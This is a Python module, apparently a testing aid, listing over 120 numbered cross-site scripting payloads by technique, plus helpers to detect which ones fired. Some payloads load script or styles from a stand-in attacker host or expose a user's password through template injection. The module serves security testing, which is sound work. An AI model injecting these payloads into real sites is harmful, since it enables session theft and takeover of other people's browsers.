"""What somebody could type to let the browser of another do something: more than 120 ways, each with a number.

Every way names its number as `alert(4017)` or as `v4017`: a page, a mail and a browser say which one they met.
"""

import re
from collections.abc import Iterable

FIRST = 4001
NUMBER = re.compile(r"(?:alert\(|\bv)(4\d{3})\b")

SCRIPTS = (
    "<script>alert(N)</script>",
    "<ScRiPt>alert(N)</sCrIpT>",
    "<script >alert(N)</script >",
    "<script/x>alert(N)</script>",
    "<scr<script>ipt>alert(N)</scr</script>ipt>",
    "<script src=//kwaad.example/x.js id=vN></script>",
    "<script type=module>alert(N)</script>",
    '<script nonce="">alert(N)</script>',
    "<<script>alert(N)//<</script>",
    "<script\n>alert(N)\n</script>",
)
HANDLERS = (
    "<img src=x onerror=alert(N)>",
    "<img src=x onerror='alert(N)'>",
    '<img src="x" onerror="alert(N)">',
    "<IMG SRC=x ONERROR=alert(N)>",
    "<img/src=x/onerror=alert(N)>",
    "<img src=x\tonerror=alert(N)>",
    "<img src=x onerror=alert(N)//",
    "<body onload=alert(N)>",
    "<input autofocus onfocus=alert(N)>",
    "<select autofocus onfocus=alert(N)>",
    "<textarea autofocus onfocus=alert(N)>",
    "<details open ontoggle=alert(N)>",
    "<video src=x onerror=alert(N)>",
    "<video><source onerror=alert(N)></video>",
    "<audio src=x onerror=alert(N)>",
    "<marquee onstart=alert(N)>",
    "<div onpointerover=alert(N)>v</div>",
    "<p onclick=alert(N)>Klik hier</p>",
    "<a onmouseover=alert(N)>Kijk</a>",
    "<button popovertarget=x onclick=alert(N)>Uitleg</button>",
    "<p id=x popover onbeforetoggle=alert(N)>Uitleg</p>",
    "<p style=animation:x onanimationstart=alert(N)>",
    "<p tabindex=1 autofocus onfocus=alert(N)>",
    "<p contenteditable autofocus onfocus=alert(N)>",
)
DRAWINGS = (
    "<svg onload=alert(N)>",
    "<svg/onload=alert(N)>",
    "<svg><script>alert(N)</script></svg>",
    "<svg><animate onbegin=alert(N) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(N) attributename=x>",
    "<svg><a xlink:href=javascript:alert(N)><text y=20>v</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload=alert(N)>></svg>",
    "<svg><foreignObject><img src=x onerror=alert(N)></foreignObject></svg>",
    "<svg><title><img src=x onerror=alert(N)></title></svg>",
    "<math href=javascript:alert(N)>v</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(N)>v</maction></math>",
)
ADDRESSES = (
    "javascript:alert(N)",
    "JaVaScRiPt:alert(N)",
    " javascript:alert(N)",
    "java\tscript:alert(N)",
    "javascript://x%0aalert(N)",
    "<a href=javascript:alert(N)>Lees verder</a>",
    '<a href="jav&#x09;ascript:alert(N)">Lees verder</a>',
    "<a href=javascript&colon;alert(N)>Lees verder</a>",
    "<a href=vbscript:alert(N)>Lees verder</a>",
    "<form action=javascript:alert(N)><button>Verder</button></form>",
    "<button formaction=javascript:alert(N)>Verder</button>",
    "<area href=javascript:alert(N) shape=default>",
    "https://x.example/?javascript:alert(N)",
    "data:text/html,<script>alert(N)</script>",
    "<a href=data:text/html;base64,PHNjcmlwdD4= id=vN>Lees</a>",
    "<object data=data:text/html;base64,PHNjcmlwdD4= id=vN>",
    "<embed src=data:image/svg+xml;base64,PHN2Zz4= id=vN>",
)
TEMPLATES = (
    "{{ 7|add:7 }} alert(N)",
    "{% debug %} alert(N)",
    "{{ request.user.password }} alert(N)",
    "{% include 'base.html' %} alert(N)",
    "${alert(N)}",
    "#{alert(N)}",
    "<%= alert(N) %>",
    "{{constructor.constructor('alert(N)')()}}",
    "[[alert(N)]]",
    "%(alert(N))s %s %d",
)
OUT_OF_ATTRIBUTES = (
    '"><script>alert(N)</script>',
    "'><script>alert(N)</script>",
    '" onmouseover="alert(N)',
    "' onmouseover='alert(N)",
    '" autofocus onfocus=alert(N) x="',
    "` onmouseover=alert(N) x=`",
    "x onmouseover=alert(N) y",
    "x/onmouseover=alert(N)/y",
    '\\"><img src=x onerror=alert(N)>',
    '"/><svg/onload=alert(N)>',
    '" style="animation:x" onanimationend="alert(N)',
    '" hx-get="https://kwaad.example/v" hx-trigger="load" id="vN',
    '<div hx-get="/mijn/" hx-trigger="load" hx-on::load="alert(N)">',
    '<p data-x="vN" aria-label="alert(N)">',
)
OUT_OF_PLACES = (
    "</title><script>alert(N)</script>",
    "</textarea><script>alert(N)</script>",
    "</script><script>alert(N)</script>",
    "</style><script>alert(N)</script>",
    "</template><script>alert(N)</script>",
    "</select><img src=x onerror=alert(N)>",
    "--><script>alert(N)</script><!--",
    "]]><script>alert(N)</script>",
    "*/alert(N)/*",
    "';alert(N)//",
    '"};alert(N);//',
    "\\u003cscript\\u003ealert(N)\\u003c/script\\u003e",
    "'-alert(N)-'",
)
ENTITIES = (
    "&lt;script&gt;alert(N)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(N)&#62;",
    "&#x3c;svg onload=alert(N)&#x3e;",
    "&amp;lt;script&amp;gt;alert(N)",
    "%3Cscript%3Ealert(N)%3C/script%3E",
    "\uff1cscript\uff1ealert(N)\uff1c/script\uff1e",
    "<img src=x onerror=&#97;lert(1) id=vN>",
    "&quot;&gt;&lt;img src=x onerror=alert(N)&gt;",
)
CHANGED_BY_PARSING = (
    "<noscript><p title='</noscript><img src=x onerror=alert(N)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(N)>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(N)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(N)>",
    "<table><td><script>alert(N)</script>",
    "<xmp><p title='</xmp><img src=x onerror=alert(N)>'>",
    "<!--><img src=x onerror=alert(N)>-->",
    "<![CDATA[<img src=x onerror=alert(N)>]]>",
    "<listing>&lt;img src=x onerror=alert(N)&gt;</listing>",
    "<b><img alt='</b><svg onload=alert(N)>'>",
)
STYLES = (
    "<style>@import'//kwaad.example/v';</style>vN",
    "<style>body{background:url(javascript:alert(N))}</style>",
    "<p style=background:url(//kwaad.example/v) id=vN>",
    "<p style=width:expression(alert(N))>",
    "<link rel=stylesheet href=//kwaad.example/v id=vN>",
)
WHOLE_PAGES = (
    "<iframe srcdoc='<script>alert(N)</script>'></iframe>",
    "<iframe src=javascript:alert(N)></iframe>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(N)'>",
    "<meta http-equiv=refresh content=0;//kwaad.example id=vN>",
    "<base href=//kwaad.example/ id=vN>",
    "<template shadowrootmode=open><img src=x onerror=alert(N)></template>",
    "<dialog open><form method=post action=//kwaad.example/vN>",
)
MARKS = (
    "[Lees verder](javascript:alert(N))",
    "![v](x' onerror='alert(N))",
    "<javascript:alert(N)>",
    "[v]: javascript:alert(N)",
    'www.x.example"onmouseover=alert(N)//',
    "https://x.example/'onmouseover=alert(N)//",
)
ALL = (*SCRIPTS, *HANDLERS, *DRAWINGS, *ADDRESSES, *TEMPLATES, *OUT_OF_ATTRIBUTES, *OUT_OF_PLACES, *ENTITIES,
       *CHANGED_BY_PARSING, *STYLES, *WHOLE_PAGES, *MARKS)  # fmt: skip
VECTORS = tuple(
    text.replace("(N)", f"({FIRST + place})").replace("vN", f"v{FIRST + place}") for place, text in enumerate(ALL)
)
NUMBERS = frozenset(FIRST + place for place in range(len(VECTORS)))


def numbers_in(text: str) -> set[int]:
    """Return which of them a text names, however it was written down."""
    return {int(number) for number in NUMBER.findall(text)} & NUMBERS


def number_of(vector: str) -> int:
    """Return the number of one of them."""
    return FIRST + VECTORS.index(vector)


def fitting(length: int | None) -> list[str]:
    """Return those that fit a field of this length."""
    return [vector for vector in VECTORS if length is None or len(vector) <= length]


def missing(met: Iterable[int]) -> list[str]:
    """Return those that were not met."""
    return [vector for vector in VECTORS if number_of(vector) not in set(met)]
